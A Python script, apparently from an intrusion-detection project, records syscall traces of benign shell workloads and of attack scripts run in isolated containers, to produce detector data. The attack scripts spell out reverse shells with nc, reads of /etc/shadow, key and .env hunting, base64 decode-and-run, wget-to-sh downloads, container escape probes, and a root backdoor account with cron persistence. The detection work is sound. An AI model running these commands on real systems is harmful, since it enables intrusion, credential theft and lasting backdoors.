@@ -1,0 +1,359 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Record per-process syscall traces of benign workloads and attack scripts in real containers.
+
+Each run starts a fresh ``riskguard-test/busybox`` container (``--network none``) whose shell
+prepares its files, then blocks on a FIFO; ``strace -f -ff -qq -n -p PID`` attaches to it, the
+FIFO is written through ``/proc/PID/root`` and the workload (or attack) runs under the tracer.
+Anything the setup started before the FIFO (the attacker's payload server in ``download_exec``)
+is not traced. Every traced process becomes one trace: the x86_64 numbers strace prints with
+``-n``, in order, cut at ``--max-calls``.
+
+Output (``--out``, default ``tests/fixtures/syscalls``): ``<split>/<class>/<workload>.txt.gz``,
+one line per process: ``<run> <pid> <program> <nr> <nr> ...``. Benign runs ``0..train-1`` go to
+``train``, the rest to ``test``; attack runs all go to ``test`` (models never see an attack).
+``--split dev --seed-base 7000`` records a development split with other parameters: method
+choices are made on ``dev``, ``test`` stays held back for the reported figures.
+Workload parameters (file counts, sizes, request counts, job mixes) vary per run from a seed.
+
+    scripts/record_syscall_traces.py [--runs 8] [--train-runs 5] [--jobs 3] [--only NAME,...]
+
+Needs root, dockerd, strace and the local busybox image (``scripts/setup-host.sh``).
+"""
+
+from __future__ import annotations
+
+import argparse
+import gzip
+import random
+import re
+import shlex
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parent.parent
+IMAGE = "riskguard-test/busybox"
+PREFIX = "rgseqrec"
+_LINE = re.compile(r"^\[\s*(\d+)\]\s+(\w+)\((.*)")
+_ARGV0 = re.compile(r'\["([^"]*)"')
+
+
+@dataclass(frozen=True)
+class Workload:
+    """One kind of run: shell for before the tracer attaches, and the traced script."""
+
+    name: str
+    cls: str  # benign | attack
+    setup: str
+    script: str
+    timeout: float = 60.0
+
+
+def _benign(seed: int) -> list[Workload]:
+    r = random.Random(seed)
+    n_files, n_req, rows = r.randint(3, 9), r.randint(5, 25), r.randint(200, 3000)
+    kb = r.randint(8, 256)
+    words = " ".join(r.sample(["alpha", "beta", "gamma", "delta", "eps", "zeta", "eta", "theta", "iota"], 5))
+    pages = " ".join(f"p{i}.html" for i in range(n_files))
+    shell = f"""
+set -e
+mkdir -p /work/out && cd /work
+i=0
+for w in {words}; do
+  i=$((i+1)); echo "$i $w" >> list.txt
+  if [ $((i % 2)) -eq 0 ]; then echo "even $w" > out/$w.txt; else touch out/$w.odd; fi
+done
+wc -l list.txt > count.txt
+cut -d' ' -f2 list.txt | grep -v eta | tr a-z A-Z > upper.txt
+ls -la out > listing.txt
+date +%s > stamp
+for f in out/*; do [ -s "$f" ] && cat "$f" >> all.txt || true; done
+sed -i 's/even/EVEN/' all.txt || true
+test -f all.txt && echo ok
+rm -rf out
+"""
+    httpd = f"""
+mkdir -p /www/cgi-bin
+for p in {pages}; do echo "<html><body>$p $(date)</body></html>" > /www/$p; done
+echo index > /www/index.html
+httpd -f -p 127.0.0.1:8080 -h /www &
+hp=$!
+sleep 0.3
+i=0
+while [ $i -lt {n_req} ]; do
+  i=$((i+1))
+  wget -q -O /dev/null http://127.0.0.1:8080/p$((i % {n_files + 2})).html || true
+done
+wget -q -O - http://127.0.0.1:8080/ > /dev/null
+kill $hp
+"""
+    targz = f"""
+mkdir -p /data/src && cd /data
+n=0
+while [ $n -lt {n_files} ]; do
+  n=$((n+1)); dd if=/dev/urandom of=src/blob$n bs=1024 count={kb // n_files + 1} 2>/dev/null
+  seq 1 {rows // 4} > src/seq$n.txt
+done
+tar -cf a.tar src
+gzip -{r.randint(1, 9)} a.tar
+md5sum a.tar.gz > sum
+mkdir x && cd x
+tar -xzf ../a.tar.gz
+cd /data
+md5sum src/* > s1
+(cd x && md5sum src/*) > s2
+cmp s1 s2 && echo same
+gunzip -c a.tar.gz | tar -tf - | wc -l
+rm -rf x a.tar.gz
+"""
+    text = f"""
+cd /tmp
+awk 'BEGIN {{ srand({seed}); for (i = 0; i < {rows}; i++)
+  printf "%d,%s,%d\\n", i, (i % 7 ? "web" : "db"), int(rand()*1000) }}' > d.csv
+sort -t, -k3 -n d.csv > sorted.csv
+cut -d, -f2 d.csv | sort | uniq -c > kinds
+awk -F, '{{ s[$2] += $3 }} END {{ for (k in s) print k, s[k] }}' d.csv | sort > sums
+sed 's/,web,/,frontend,/' d.csv | grep -c frontend
+head -n 5 sorted.csv; tail -n 3 sorted.csv
+tr ',' '\\t' < d.csv | wc -c
+rm -f d.csv sorted.csv
+"""
+    job = r.choice(["date >> /tmp/cron.log", "ls /tmp | wc -l >> /tmp/cron.log", "echo tick >> /tmp/cron.log"])
+    cron = f"""
+mkdir -p /var/spool/cron/crontabs
+echo '* * * * * {job}; uptime >> /tmp/load.log' > /var/spool/cron/crontabs/root
+echo '* * * * * find /tmp -name "*.old" -mmin +5 -delete' >> /var/spool/cron/crontabs/root
+crond -f -l 8 -c /var/spool/cron/crontabs &
+cp=$!
+sleep 62
+kill $cp
+cat /tmp/cron.log
+"""
+    maint = f"""
+mkdir -p /var/log/app && cd /var/log/app
+i=0
+while [ $i -lt {n_files} ]; do i=$((i+1)); seq 1 {rows // 10} | sed "s/^/line $i /" > app$i.log; done
+for f in app*.log; do mv "$f" "$f.1"; gzip "$f.1"; done
+find /var/log -name '*.gz' -type f | sort
+du -s /var/log; df / > /dev/null
+ls -lR /var/log | wc -l
+find /var/log -name '*.gz' -size +0 -exec ls -l {{}} \\; > /dev/null
+zcat app1.log.1.gz | tail -n 2
+rm -f app*.gz
+"""
+    health = f"""
+httpd -f -p 127.0.0.1:8081 -h /etc &
+hp=$!
+i=0
+while [ $i -lt {max(2, n_req // 5)} ]; do
+  i=$((i+1))
+  ps > /dev/null; uptime; free > /dev/null
+  cat /proc/loadavg /proc/meminfo | head -n 3 > /dev/null
+  netstat -tln | grep -q 8081 && echo listening
+  wget -q -O /dev/null http://127.0.0.1:8081/hostname || echo down
+  sleep 0.1
+done
+kill $hp
+"""
+    return [
+        Workload("shell_scripts", "benign", "", shell),
+        Workload("file_maintenance", "benign", "", maint),
+        Workload("service_health", "benign", "", health),
+        Workload("httpd_requests", "benign", "", httpd),
+        Workload("tar_gzip", "benign", "", targz),
+        Workload("text_processing", "benign", "", text),
+        Workload("crond_jobs", "benign", "", cron, timeout=90.0),
+    ]
+
+
+def _attacks(seed: int) -> list[Workload]:
+    r = random.Random(seed)
+    port = r.randint(4000, 4999)
+    cmds = "; ".join(r.sample(["id", "uname -a", "cat /etc/passwd", "ls -la /", "ps", "hostname", "pwd"], 4))
+    payload = f"#!/bin/sh\\nid > /tmp/.o; cat /etc/shadow >> /tmp/.o; ls / >> /tmp/.o; echo {seed}\\n"
+    rev_fifo = f"""
+(sleep 0.3; echo '{cmds}'; sleep 0.5; echo exit) | nc -l -p {port} -s 127.0.0.1 > /tmp/loot &
+sleep 0.2
+rm -f /tmp/f; mkfifo /tmp/f
+sh -i < /tmp/f 2>&1 | nc 127.0.0.1 {port} > /tmp/f
+sleep 0.3
+"""
+    rev_e = f"""
+(sleep 0.3; echo '{cmds}'; sleep 0.5; echo exit) | nc -l -p {port} -s 127.0.0.1 > /tmp/loot &
+sleep 0.2
+nc 127.0.0.1 {port} -e /bin/sh
+sleep 0.3
+"""
+    discovery = """
+find / -perm -4000 -type f 2>/dev/null | head
+find / \\( -name '*.pem' -o -name 'id_rsa*' -o -name '*.key' -o -name '.env' \\) 2>/dev/null
+ls -la /root /home /tmp 2>/dev/null
+cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n' | head
+for p in /proc/[0-9]*; do cat $p/cmdline 2>/dev/null; echo; done
+netstat -an 2>/dev/null; cat /proc/self/mountinfo | head
+env; id; uname -a; cat /etc/os-release
+"""
+    shadow = f"""
+cat /etc/shadow
+grep root /etc/shadow
+cp /etc/shadow /tmp/.s{seed} && awk -F: '{{print $1, $2}}' /tmp/.s{seed}
+head -n 3 /etc/passwd; cut -d: -f1,3 /etc/passwd
+"""
+    b64 = subprocess.run(
+        ["base64", "-w0"], input=payload.replace("\\n", "\n").encode(), capture_output=True, check=True
+    )
+    decode = f"""
+echo {b64.stdout.decode()} | base64 -d | sh
+echo {b64.stdout.decode()} | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x
+cat /tmp/.o | base64 | head -c 200
+"""
+    dl_setup = f"mkdir -p /srv && printf '{payload}' > /srv/p.sh && (httpd -f -p 127.0.0.1:{port} -h /srv &)"
+    download = f"""
+wget -q -O /tmp/.p http://127.0.0.1:{port}/p.sh
+chmod 755 /tmp/.p
+/tmp/.p
+wget -q -O - http://127.0.0.1:{port}/p.sh | sh
+"""
+    escape = """
+unshare -m sh -c 'mount -t tmpfs none /mnt' 2>&1
+nsenter -t 1 -m -u -n -i sh -c id 2>&1
+mount -t proc proc /mnt 2>&1
+chroot / id
+cat /proc/1/cgroup; ls -la /var/run /run 2>&1
+insmod /tmp/x.ko 2>&1
+"""
+    persist = f"""
+echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd
+echo 'backdoor::19000:0:99999:7:::' >> /etc/shadow
+mkdir -p /var/spool/cron/crontabs
+echo '* * * * * nc 127.0.0.1 {port} -e /bin/sh' >> /var/spool/cron/crontabs/root
+echo 'nc 127.0.0.1 {port} -e /bin/sh &' >> /root/.profile 2>/dev/null || echo x > /.profile
+"""
+    return [
+        Workload("reverse_shell_fifo", "attack", "", rev_fifo, timeout=20.0),
+        Workload("reverse_shell_nc_e", "attack", "", rev_e, timeout=20.0),
+        Workload("file_discovery", "attack", "", discovery),
+        Workload("shadow_read", "attack", "", shadow),
+        Workload("decode_exec", "attack", "", decode),
+        Workload("download_exec", "attack", dl_setup, download),
+        Workload("escape_probe", "attack", "", escape),
+        Workload("persistence", "attack", "", persist),
+    ]
+
+
+def workloads(seed: int) -> list[Workload]:
+    """Every workload, with parameters drawn from ``seed``."""
+    return _benign(seed) + _attacks(seed)
+
+
+def parse_strace(text: str, max_calls: int) -> tuple[str, list[int]]:
+    """The program name (last execve's argv[0] basename, else ``?``) and the syscall numbers."""
+    prog = "?"
+    nrs: list[int] = []
+    for line in text.splitlines():
+        m = _LINE.match(line)
+        if m is None:
+            continue  # signals, exits
+        if m.group(2) == "execve" and " = 0" in line:
+            # busybox sh runs applets through /proc/self/exe: argv[0] names the program
+            argv0 = _ARGV0.search(m.group(3))
+            prog = (argv0.group(1) if argv0 else m.group(3).split(",", 1)[0].strip('"')).rsplit("/", 1)[-1] or "?"
+        if len(nrs) < max_calls:
+            nrs.append(int(m.group(1)))
+    return prog, nrs
+
+
+def record_run(wl: Workload, run: int, work: Path, max_calls: int) -> list[str]:
+    """Run one workload in a fresh container under strace; one output line per traced process."""
+    name = f"{PREFIX}-{wl.name.replace('_', '-')}-{run}-{int(time.time() * 1000) % 100000}"
+    boot = f"{wl.setup}\nrm -f /tmp/.go; mkfifo /tmp/.go; read x < /tmp/.go; exec sh /tmp/.w"
+    subprocess.run(
+        ["docker", "run", "-d", "--name", name, "--network", "none", IMAGE, "sh", "-c",
+         f"printf %s {shlex.quote(wl.script)} > /tmp/.w\n{boot}"],
+        check=True, capture_output=True,
+    )  # fmt: skip
+    out_dir = work / name
+    out_dir.mkdir()
+    tracer = None
+    try:
+        pid = subprocess.run(
+            ["docker", "inspect", "-f", "{{.State.Pid}}", name], check=True, capture_output=True, text=True
+        ).stdout.strip()
+        fifo = Path(f"/proc/{pid}/root/tmp/.go")
+        deadline = time.monotonic() + 10
+        while not fifo.exists():
+            if time.monotonic() > deadline:
+                raise RuntimeError(f"{name}: FIFO never appeared")
+            time.sleep(0.05)
+        tracer = subprocess.Popen(["strace", "-f", "-ff", "-qq", "-n", "-o", str(out_dir / "t"), "-p", pid])
+        while "TracerPid:\t0" in Path(f"/proc/{pid}/status").read_text():
+            time.sleep(0.02)
+        with open(fifo, "w") as go:
+            go.write("go\n")
+        subprocess.run(["docker", "wait", name], capture_output=True, timeout=wl.timeout, check=False)
+    except subprocess.TimeoutExpired:
+        print(f"{name}: timed out after {wl.timeout} s, keeping what was traced", file=sys.stderr)
+    finally:
+        subprocess.run(["docker", "rm", "-f", name], capture_output=True, check=False)
+        if tracer is not None:
+            try:
+                tracer.wait(timeout=10)
+            except subprocess.TimeoutExpired:
+                tracer.kill()
+                tracer.wait()
+    lines = []
+    for f in sorted(out_dir.glob("t.*"), key=lambda p: int(p.suffix[1:])):
+        prog, nrs = parse_strace(f.read_text(errors="replace"), max_calls)
+        if nrs:
+            lines.append(f"{run} {f.suffix[1:]} {prog} {' '.join(map(str, nrs))}")
+    shutil.rmtree(out_dir, ignore_errors=True)
+    return lines
+
+
+def main() -> int:
+    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    ap.add_argument("--out", type=Path, default=REPO / "tests" / "fixtures" / "syscalls")
+    ap.add_argument("--runs", type=int, default=8, help="runs per benign workload (default 8)")
+    ap.add_argument("--train-runs", type=int, default=5, help="benign runs that go to train (default 5)")
+    ap.add_argument("--attack-runs", type=int, default=4, help="runs per attack (default 4)")
+    ap.add_argument("--jobs", type=int, default=3, help="containers traced at once (default 3)")
+    ap.add_argument("--max-calls", type=int, default=20000, help="syscalls kept per process (default 20000)")
+    ap.add_argument("--only", default="", help="comma-separated workload names")
+    ap.add_argument("--seed-base", type=int, default=1000, help="run r draws its parameters from seed-base + r")
+    ap.add_argument("--split", default="", help="put every run into this split (e.g. dev) instead of train/test")
+    args = ap.parse_args()
+    only = {s for s in args.only.split(",") if s}
+    names = [w for w in workloads(0) if not only or w.name in only]
+    jobs = []
+    for wl in names:
+        for run in range(args.runs if wl.cls == "benign" else args.attack_runs):
+            jobs.append((wl.name, wl.cls, run))
+    jobs.sort(key=lambda j: j[0] != "crond_jobs")  # the slow ones first: they mostly sleep
+    results: dict[tuple[str, str, str], list[str]] = {}
+    with tempfile.TemporaryDirectory(prefix="rgseq") as tmp, ThreadPoolExecutor(args.jobs) as pool:
+
+        def one(job: tuple[str, str, int]) -> None:
+            wname, cls, run = job
+            wl = next(w for w in workloads(args.seed_base + run) if w.name == wname)
+            lines = record_run(wl, run, Path(tmp), args.max_calls)
+            split = args.split or ("test" if cls == "attack" or run >= args.train_runs else "train")
+            results.setdefault((split, cls, wname), []).extend(lines)
+            print(f"{wname} run {run}: {len(lines)} processes -> {split}", file=sys.stderr)
+
+        list(pool.map(one, jobs))
+    for (split, cls, wname), lines in sorted(results.items()):
+        dest = args.out / split / cls / f"{wname}.txt.gz"
+        dest.parent.mkdir(parents=True, exist_ok=True)
+        lines.sort(key=lambda s: (int(s.split(" ", 2)[0]), int(s.split(" ", 2)[1])))
+        with gzip.GzipFile(dest, "wb", mtime=0) as fh:
+            fh.write(("\n".join(lines) + "\n").encode())
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
